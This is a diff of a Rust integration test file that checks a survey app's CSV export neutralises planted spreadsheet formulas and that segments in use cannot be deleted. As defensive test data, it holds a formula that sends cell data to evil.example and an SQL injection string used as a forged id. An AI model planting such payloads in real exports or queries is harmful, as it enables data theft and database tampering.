@@ -1,7 +1,6 @@
 //! Data-level holes: formula injection in CSV exports, and settings pulled out from under
 //! their users.
 
-use super::{account_of, visitor};
 use crate::common::*;
 use reqwest::StatusCode;
 use serde_json::json;
@@ -16,7 +15,7 @@ async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_expor
     let app = spawn_app().await;
     let admin = admin(&app).await;
     let csm = user_with_role(&app, &admin, "csm").await;
-    let acc = account_of(&csm, "Formula Co").await;
+    let acc = create_account(&csm, "Formula Co", "enterprise").await;
     let prompt = "What should we build next?";
     let (s, survey) = csm
         .call(
@@ -55,23 +54,20 @@ async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_expor
     ];
     let web = visitor();
     for (comment, _) in &cases {
-        let res = web
-            .post(&url)
-            .form(&[("score", "3"), ("comment", comment)])
-            .send()
-            .await
-            .unwrap();
+        let res = post_form(&web, &url, &[("score", "3"), ("comment", comment)]).await;
         assert_eq!(res.status(), StatusCode::SEE_OTHER, "{comment:?}");
     }
     // A free-text extra question is a second way in.
     let answer = r#"=WEBSERVICE("https://evil.example/?"&I2)"#;
-    let res = web
-        .post(&url)
-        .form(&[("score", "5"), ("comment", "See my answer"), ("q1", answer)])
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(res.status(), StatusCode::SEE_OTHER);
+    assert_eq!(
+        post_status(
+            &web,
+            &url,
+            &[("score", "5"), ("comment", "See my answer"), ("q1", answer)]
+        )
+        .await,
+        StatusCode::SEE_OTHER
+    );
 
     let res = csm.get(&format!("/surveys/{sid}/responses.csv")).await;
     assert_eq!(res.status(), StatusCode::OK);
@@ -111,10 +107,9 @@ async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_expor
 // ---- settings pulled out from under their users ---------------------------------------------
 
 async fn save_segment(c: &Client, name: &str, query: &str) -> String {
-    let (s, b) = c
-        .call("segments/save", &[("name", name), ("query", query)])
+    let b = c
+        .ok("segments/save", &[("name", name), ("query", query)])
         .await;
-    assert_eq!(s, StatusCode::OK, "{b}");
     b["id"].as_str().unwrap().to_string()
 }
 
@@ -140,22 +135,23 @@ async fn refused_while_used(c: &Client, id: &str, users: &[&str]) -> String {
     message.to_string()
 }
 
-async fn give_segment_a_health_model(app: &TestApp, admin: &Client, segment: &str) {
-    let (s, ed) = admin.call("health/editor", &[("scope", segment)]).await;
-    assert_eq!(s, StatusCode::OK, "{ed}");
-    let res = admin
-        .http
-        .post(format!("{}/api/health/save_model", app.base))
-        .json(&json!({ "scope": segment, "config": ed["model"]["config"] }))
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(res.status(), StatusCode::OK);
+async fn give_segment_a_health_model(admin: &Client, segment: &str) {
+    let ed = admin.ok("health/editor", &[("scope", segment)]).await;
+    assert_eq!(
+        admin
+            .post_json(
+                "health/save_model",
+                &json!({ "scope": segment, "config": ed["model"]["config"] })
+            )
+            .await
+            .status(),
+        StatusCode::OK
+    );
 }
 
 async fn add_qbr_rule(admin: &Client, segment: &str) {
-    let (s, b) = admin
-        .call(
+    admin
+        .ok(
             "engagement/rules/add",
             &[
                 ("input[segment_id]", segment),
@@ -164,13 +160,12 @@ async fn add_qbr_rule(admin: &Client, segment: &str) {
             ],
         )
         .await;
-    assert_eq!(s, StatusCode::OK, "{b}");
 }
 
 /// A survey of a segment's contacts; `recurrence_months` blank for a one-off. Returns its id.
 async fn segment_survey(c: &Client, name: &str, segment: &str, recurrence_months: &str) -> String {
-    let (s, b) = c
-        .call(
+    let b = c
+        .ok(
             "surveys/create",
             &[
                 ("input[name]", name),
@@ -181,15 +176,12 @@ async fn segment_survey(c: &Client, name: &str, segment: &str, recurrence_months
             ],
         )
         .await;
-    assert_eq!(s, StatusCode::OK, "{b}");
     b["id"].as_str().unwrap().to_string()
 }
 
 async fn close_survey(c: &Client, id: &str) {
-    let (s, b) = c
-        .call("surveys/set_active", &[("id", id), ("active", "false")])
+    c.ok("surveys/set_active", &[("id", id), ("active", "false")])
         .await;
-    assert_eq!(s, StatusCode::OK, "{b}");
 }
 
 #[tokio::test]
@@ -200,7 +192,7 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
 
     // Used by an admin's health model.
     let modelled = save_segment(&csm, "Enterprise", "tier=enterprise").await;
-    give_segment_a_health_model(&app, &admin, &modelled).await;
+    give_segment_a_health_model(&admin, &modelled).await;
     let message = refused_while_used(&csm, &modelled, &["the health model “Enterprise”"]).await;
     assert_eq!(
         message,
@@ -208,18 +200,18 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
     );
     // The way out is an admin's: stop using the model (a CSM may not; the default model
     // cannot be retired). Then the segment may go, and its accounts fall to the default.
-    let (s, _) = csm
-        .call("health/retire_model", &[("scope", modelled.as_str())])
+    csm.expect(
+        StatusCode::FORBIDDEN,
+        "health/retire_model",
+        &[("scope", modelled.as_str())],
+    )
+    .await;
+    admin
+        .invalid("health/retire_model", &[("scope", "default")])
         .await;
-    assert_eq!(s, StatusCode::FORBIDDEN);
-    let (s, b) = admin
-        .call("health/retire_model", &[("scope", "default")])
+    admin
+        .ok("health/retire_model", &[("scope", modelled.as_str())])
         .await;
-    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
-    let (s, b) = admin
-        .call("health/retire_model", &[("scope", modelled.as_str())])
-        .await;
-    assert_eq!(s, StatusCode::OK, "{b}");
     let in_force = app::store::health::current_models(&app.db).await.unwrap();
     assert!(in_force.iter().all(|m| m.scope != modelled), "retired");
     assert_eq!(
@@ -288,7 +280,7 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
 
     // Everything at once: one sentence naming each user.
     let shared = save_segment(&csm, "Strategic", "tier=enterprise&stage=growth").await;
-    give_segment_a_health_model(&app, &admin, &shared).await;
+    give_segment_a_health_model(&admin, &shared).await;
     add_qbr_rule(&admin, &shared).await;
     segment_survey(&csm, "Strategic NPS", &shared, "6").await;
     let message = refused_while_used(&csm, &shared, &[]).await;
@@ -303,8 +295,7 @@ async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses
 
     // Nothing uses this one: it goes. Forged and already-deleted ids are 404s.
     let unused = save_segment(&csm, "Scratch", "stage=growth").await;
-    let (s, b) = csm.call("segments/delete", &[("id", &unused)]).await;
-    assert_eq!(s, StatusCode::OK, "{b}");
+    csm.ok("segments/delete", &[("id", &unused)]).await;
     for id in [unused.as_str(), "forged", "x') OR true; --"] {
         let (s, b) = csm.call("segments/delete", &[("id", id)]).await;
         assert_eq!(s, StatusCode::NOT_FOUND, "{id}: {b}");
